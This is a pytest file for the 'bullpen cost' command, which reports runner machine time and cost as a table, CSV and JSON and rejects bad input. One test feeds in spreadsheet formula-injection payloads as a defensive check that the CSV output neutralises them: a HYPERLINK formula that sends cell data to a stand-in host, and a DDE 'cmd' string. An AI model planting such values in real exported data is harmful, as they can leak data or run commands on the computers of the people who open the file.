"""`bullpen cost` on the real store: a table for people, CSV and JSON for programs."""

import asyncio
import csv
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bullpen.cli.cost import _csv, cost_text
from bullpen.config import Settings
from bullpen.model.ticket import UsageClass
from bullpen.model.usage import Booking, Meter, Owner, UsageRow
from bullpen.schema.cost import AmountAnswer, CostAnswer, CostRowAnswer, OwnersAnswer, OwnerSeconds
from bullpen.wiring import opened
from command_line import CommandLine

HOUR = timedelta(hours=1)


def books(*rows: tuple[Owner, str, str, float], hours: int = 1) -> None:
    """Owner, run, instance type and seconds, in each of the last hours."""
    now = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)

    async def book() -> None:
        async with opened(Path(".bullpen"), Settings()) as ports:
            bookings = [
                Booking(
                    None,
                    Meter(f"i-{n}-{hour}", 1, now, owner, 4, over=True),
                    (
                        UsageRow(
                            now - hour * HOUR,
                            owner,
                            run,
                            "acme/web" if run else "",
                            "small",
                            kind,
                            UsageClass.ON_DEMAND,
                            round(spent * 1e6),
                        ),
                    ),
                )
                for hour in range(1, hours + 1)
                for n, (owner, run, kind, spent) in enumerate(rows)
            ]
            assert all(await ports.history.book(bookings))

    asyncio.run(book())


SOME = ((Owner.RUN, "4711", "m7g.large", 7200.0), (Owner.IDLE, "", "m7g.large", 1800.0))


def test_the_table_has_a_row_for_each_repository_and_the_total(bullpen: CommandLine) -> None:
    books(*SOME)
    ran = bullpen("cost")
    assert ran.code == 0
    lines = [" ".join(line.split()) for line in ran.out.splitlines()]
    assert "acme/web 2h00m 0.0s 0.0s 0.0s 2h00m 0.1632" in lines
    assert "(no run) 0.0s 30m00s 0.0s 0.0s 30m00s 0.0408" in lines
    assert "total 2h00m 30m00s 0.0s 0.0s 2h30m 0.2040" in lines
    assert "m7g.large (on-demand): 2h30m at $0.0816 an hour, 0.2040 USD" in lines
    assert "nothing is known before" in ran.out


@pytest.mark.parametrize(
    ("reused", "saved", "said"),
    [
        (1, 20.0, "reuse: 1 runner without a boot, 60s avoided, less 40s idle: saved 20s, 0.0010 USD"),
        (2, -20.0, "reuse: 2 runners without a boot, 60s avoided, less 40s idle: cost 20s, 0.0010 USD"),
        (0, -40.0, "reuse: no runner was reused; machines were idle for 40s"),
        (2, None, "reuse: what it saved is not known, because no boot of a machine is known"),
    ],
)
def test_what_reuse_saved_is_a_sentence(reused: int, saved: float | None, said: str) -> None:
    none, idle = AmountAnswer(0.0, 0.0), AmountAnswer(40.0, 0.002)
    found = CostAnswer(
        since="2026-11-19T00:00:00Z",
        until="2026-11-19T01:00:00Z",
        data_since=None,
        by="run",
        total=idle,
        owners=OwnersAnswer(none, idle, none, none),
        rows=[CostRowAnswer("(no run)", OwnerSeconds(0.0, 40.0, 0.0, 0.0), 40.0, 0.002)],
        more_rows=0,
        machines=idle,
        types=[],
        missing_prices=[],
        reused=reused,
        avoided_seconds=None if saved is None else 60.0,
        saved_seconds=saved,
        saved_money=None if saved is None else saved / 20_000,
    )
    assert cost_text(found, 100).splitlines()[-1] == said


def test_csv_has_seconds_and_usd(bullpen: CommandLine) -> None:
    books(*SOME)
    ran = bullpen("cost", "--csv", "--by", "run")
    rows = list(csv.DictReader(ran.out.splitlines()))
    assert [(row["name"], row["run_seconds"], row["seconds"], row["usd"]) for row in rows] == [
        ("4711", "7200.000000", "7200.000000", "0.163200"),
        ("(no run)", "0.000000", "1800.000000", "0.040800"),
    ]


def test_json_is_what_the_api_answers(bullpen: CommandLine) -> None:
    books(*SOME)
    answer = bullpen("cost", "--json", "--since", "24h").answer
    assert answer["total"] == answer["machines"] == {"seconds": 9000.0, "money": pytest.approx(0.204)}
    assert answer["missingPrices"] == []


def test_a_type_without_a_price_is_named_with_the_setting(bullpen: CommandLine) -> None:
    books((Owner.RUN, "4711", "x9.large", 7200.0))
    assert 'no price is known for x9.large, which count as free; set history.prices, such as "x9.large" = 0.1' in (
        bullpen("cost").out
    )
    priced = bullpen("cost", "--set", 'history.prices={"x9.large"=2}')
    assert "x9.large (on-demand): 2h00m at $2 an hour, 4.00 USD" in priced.out


def test_a_range_without_data_says_so(bullpen: CommandLine) -> None:
    books(*SOME)
    ran = bullpen("cost", "--since", "9d", "--until", "8d")
    assert ran.code == 0
    assert "no machine ran in this range" in ran.out


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (("--since", "yesterday"), "--since 'yesterday': must be a number with m, h, d or w"),
        (("--since", "1d", "--until", "2d"), "--since '1d': must be before --until"),
        (("--since", "2099-01-01"), "must be before now"),
        (("--by", "moon"), "'moon' is not one of"),
        (("--csv", "--json"), "--csv and --json: name only one of them"),
        (("--set", 'history.prices={"m5.large"=-1}'), "history.prices"),
        (("--set", 'history.prices={"m5 large"=1}'), "must be an instance type"),
        (("--set", "history.keep=0"), "history.keep = 0: must be a whole number from 1 to 400"),
    ],
)
def test_bad_input_is_refused_clearly(bullpen: CommandLine, options: tuple[str, ...], said: str) -> None:
    books(*SOME)
    ran = bullpen("cost", *options)
    assert ran.code == 2
    assert said in " ".join((ran.err + ran.out).split())


def test_without_a_pool_it_says_how_to_get_one(bullpen: CommandLine) -> None:
    ran = bullpen("cost")
    assert ran.code != 0
    assert "there is no pool" in ran.err


def test_a_hostile_name_is_text_in_a_table_and_in_csv(bullpen: CommandLine) -> None:
    books((Owner.RUN, '4711,"x"', "m7g.large", 1.0))
    rows = list(csv.DictReader(bullpen("cost", "--csv", "--by", "run").out.splitlines()))
    assert [row["name"] for row in rows] == ['4711,"x"']


@pytest.mark.parametrize("run", ['=HYPERLINK("http://x/?"&A2)', "+1+cmd|'/C'!A0", "-2+3", "@SUM(1)"])
def test_a_name_that_looks_like_a_formula_is_text_in_a_spreadsheet(bullpen: CommandLine, run: str) -> None:
    books((Owner.RUN, run, "m7g.large", 1.0))
    (row,) = csv.DictReader(bullpen("cost", "--csv", "--by", "run").out.splitlines())
    assert row["name"] == f"'{run}"
    assert bullpen("cost", "--json", "--by", "run").answer["rows"][0]["name"] == run


def test_what_a_server_does_not_list_is_one_row_of_csv_and_the_rows_add_up() -> None:
    def amount(seconds: float) -> AmountAnswer:
        return AmountAnswer(seconds, seconds / 100)

    rows = [CostRowAnswer(f"run-{n}", OwnerSeconds(n, 0.0, 1.0, 0.25), n + 1.25, n + 1.0) for n in (9, 8)]
    owners = OwnersAnswer(amount(20.0), amount(3.0), amount(2.5), amount(0.5))
    found = CostAnswer(
        "2026-11-01T00:00:00Z", "2026-11-02T00:00:00Z", None, "run", AmountAnswer(26.0, 20.5), owners, rows, 231,
        amount(26.0), [], [], 0, None, None, None,
    )  # fmt: skip
    listed = list(csv.DictReader(_csv(found).splitlines()))
    assert listed[-1] == {
        "name": "(231 others)",
        "run_seconds": "3.000000",
        "idle_seconds": "3.000000",
        "boot_seconds": "0.500000",
        "cleaning_seconds": "0.000000",
        "seconds": "6.500000",
        "usd": "1.500000",
    }
    assert sum(float(row["seconds"]) for row in listed) == 26.0
    assert "and 231 more, which count in the total; a server lists the 2 most expensive" in cost_text(found, 120)


@pytest.mark.slow
def test_many_rows_of_history_are_added_up(bullpen: CommandLine) -> None:
    rows = [(Owner.RUN, f"run-{n}", "m7g.large", 1.0) for n in range(5000)]
    books(*rows, hours=20)
    answer = bullpen("cost", "--json", "--by", "run").answer
    assert answer["total"]["seconds"] == 100_000
    assert (len(answer["rows"]), answer["moreRows"]) == (5000, 0)
    assert "and 4960 more, which count in the total" in bullpen("cost", "--by", "run").out
